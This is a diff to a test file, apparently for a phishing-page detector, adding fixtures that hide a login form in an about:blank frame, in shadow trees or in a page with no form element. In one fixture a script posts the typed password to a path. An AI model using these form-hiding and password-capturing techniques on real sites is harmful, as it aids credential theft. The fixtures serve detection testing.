@@ -254,13 +254,25 @@ test.describe("a page that steals", () => {
     });
   });
 
-  test("in a frame counts for the page around it: srcdoc, another site's, a closed shadow tree", async () => {
+  test("is found wherever its form stands: srcdoc, about:blank, another site's frame, shadow trees, no form at all", async () => {
     const inside = LOGIN.replaceAll('"', "'");
     const shell = (form: string) => loginPage({ form });
     serve("khung.example", page("x", LOGIN));
     for (const [host, form] of [
       ["khung-srcdoc.example", `<iframe srcdoc="${inside}"></iframe>`],
       ["khung-ngoai.example", '<iframe src="http://khung.example/"></iframe>'],
+      [
+        "khung-trang.example",
+        `<iframe id="f"></iframe><script>f.contentDocument.body.innerHTML = ${JSON.stringify(LOGIN)}</script>`,
+      ],
+      [
+        "khung-mo.example",
+        `<div id="x"></div><script>document.getElementById("x").attachShadow({mode:"open"}).innerHTML=\`${LOGIN}\`</script>`,
+      ],
+      [
+        "khong-form.example",
+        `<div>${LOGIN.replaceAll(/<\/?form[^>]*>/g, "")}</div><script>document.querySelector("button").onclick = () => fetch("/luu", { method: "POST", body: document.querySelector("[type=password]").value })</script>`,
+      ],
       [
         "khung-kin.example",
         `<div id="x"></div><script>document.getElementById("x").attachShadow({mode:"closed"}).innerHTML=\`${LOGIN}\`</script>`,
